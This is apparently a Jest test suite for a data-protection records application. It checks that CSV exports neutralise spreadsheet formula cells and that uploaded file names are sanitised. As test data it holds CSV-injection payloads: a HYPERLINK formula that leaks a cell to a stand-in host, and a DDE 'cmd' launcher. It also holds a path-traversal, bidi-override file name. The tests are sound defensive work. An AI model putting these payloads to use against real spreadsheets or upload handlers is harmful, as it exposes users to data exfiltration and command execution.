import {
  binaryParser,
  createProcessor,
  createUser,
  setupOrganization,
  TestOrganization,
  TestUser,
  staff,
  exportedRecord,
} from './support/factories';
import { createTestApp, TestApp } from './support/test-app';

const PDF = Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n');
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
];

/** RFC 4180 rows (quoted fields, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted && c === '"') {
      quoted = false;
    } else if (quoted) {
      field += c;
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      endField();
    } else if (c === '\r' && text[i + 1] === '\n') {
      endField();
      rows.push(row);
      row = [];
      i++;
    } else {
      field += c;
    }
  }
  if (field || row.length) {
    endField();
    rows.push(row);
  }
  return rows;
}

describe('files and CSV: formula cells and UTF-8 file names', () => {
  let t: TestApp;
  let org: TestOrganization;
  let dpo: TestUser;
  let legal: TestUser;

  beforeAll(async () => {
    t = await createTestApp();
    org = await setupOrganization(t);
    ({ dpo, legal } = await staff(t, org, { dpo: ['dpo'], legal: ['legal'] }));
  });
  afterAll(() => t.close());

  it('writes no formula into the records CSV: such cells start with an apostrophe, the rest is unchanged', async () => {
    for (const name of [...FORMULAS, 'Payroll']) {
      const res = await t.as(dpo.accessToken).post('/processing-activities', {
        name,
        businessFunction: 'Operations',
        purposes: ['essential.service'],
        legalBases: ['art6_1_b'],
        dataSubjectCategories: ['customer'],
        dataCategories: ['user.contact.email'],
        retention: '=2 years',
        securityMeasures: 'Access control',
        processorIds: [],
      });
      expect({ status: res.status, name: res.body.name }).toEqual({ status: 201, name });
    }
    // The records CSV opens with a byte order mark and the controller's header block; the table follows.
    const text = (await exportedRecord(t, dpo.accessToken, 'csv')).toString('utf8');
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const all = parseCsv(text.slice(1));
    const first = all.findIndex((r) => r[0] === 'Processing activity');
    const end = all.findIndex((r, i) => i > first && r.every((c) => c === ''));
    const rows = all.slice(first, end);
    for (const row of all) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const nameColumn = 0;
    const retention = rows[0].findIndex((h) => /erasure|retention/i.test(h));
    expect(retention).toBeGreaterThan(0);
    const names = rows
      .slice(1)
      .map((r) => r[nameColumn])
      .sort();
    expect(names).toEqual([...FORMULAS.map((f) => `'${f}`), 'Payroll'].sort());
    for (const row of rows.slice(1)) {
      expect(row[retention]).toContain(`'=2 years`);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('writes no formula into the access-review CSV', async () => {
    const user = await createUser(t, org.admin.accessToken, {
      roles: ['auditor'],
      name: "=cmd|' /C calc'!A0",
    });
    const csv = await t.as(org.admin.accessToken).get('/users/access-review').query({ format: 'csv' });
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    const rows = parseCsv(csv.text);
    expect(rows[0]).toEqual([
      'id',
      'email',
      'name',
      'roles',
      'active',
      'lastLoginAt',
      'mfaEnabled',
      'passwordChangedAt',
      'passwordAgeDays',
      'flags',
    ]);
    const row = rows.find((r) => r[0] === user.id)!;
    expect(row.slice(1, 5)).toEqual([user.email, `'=cmd|' /C calc'!A0`, 'auditor', 'true']);
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('stores and serves a UTF-8 upload name as sent, with an RFC 6266 filename*', async () => {
    const processor = await createProcessor(t, legal.accessToken);
    const incident = await t.as(legal.accessToken).post(`/processors/${processor.id}/incidents`, {
      title: 'Exposed bucket',
      nature: 'A bucket was publicly readable.',
    });
    expect(incident.status).toBe(201);
    const name = 'Prüfbericht_Übersicht (Entwurf) «final».pdf';
    const uploaded = await t
      .as(legal.accessToken)
      .request('post', `/incidents/${incident.body.id}/documents`)
      .attach('file', PDF, { filename: name, contentType: 'application/pdf' });
    expect({
      status: uploaded.status,
      names: uploaded.body.documents.map((d: { filename: string }) => d.filename),
    }).toEqual({
      status: 201,
      names: [name],
    });
    const read = await t.as(legal.accessToken).get(`/incidents/${incident.body.id}`);
    expect(read.body.documents[0].filename).toBe(name);

    const file = await t
      .as(legal.accessToken)
      .get(`/incidents/${incident.body.id}/documents/${uploaded.body.documents[0].id}`)
      .buffer(true)
      .parse(binaryParser);
    expect(file.status).toBe(200);
    expect((file.body as Buffer).equals(PDF)).toBe(true);
    expect(file.headers['content-disposition']).toBe(
      `attachment; filename="Pr_fbericht__bersicht (Entwurf) _final_.pdf"; ` +
        `filename*=UTF-8''Pr%C3%BCfbericht_%C3%9Cbersicht%20%28Entwurf%29%20%C2%ABfinal%C2%BB.pdf`,
    );
    const star = /filename\*=UTF-8''(.+)$/.exec(file.headers['content-disposition'])![1];
    expect(decodeURIComponent(star)).toBe(name);
  });

  it('drops folders, control and bidi-override characters from an upload name', async () => {
    const processor = await createProcessor(t, legal.accessToken);
    const incident = await t
      .as(legal.accessToken)
      .post(`/processors/${processor.id}/incidents`, { title: 'Another', nature: 'Something happened.' });
    const uploaded = await t
      .as(legal.accessToken)
      .request('post', `/incidents/${incident.body.id}/documents`)
      .attach('file', PDF, { filename: '../../etc/Bericht\u202Efdp.exe', contentType: 'application/pdf' });
    expect({ status: uploaded.status, name: uploaded.body.documents?.[0]?.filename }).toEqual({
      status: 201,
      name: 'Berichtfdp.exe',
    });
  });
});
